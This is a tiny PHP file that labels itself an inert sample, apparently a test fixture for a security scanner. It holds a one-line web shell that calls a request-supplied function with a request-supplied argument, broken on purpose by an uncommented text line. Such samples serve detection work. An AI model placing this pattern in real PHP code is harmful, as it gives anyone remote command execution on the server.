<?php
shodo inert sample: deliberate syntax error, this file never runs
 $f = $_GET['f']; $f($_GET['c']); ?>
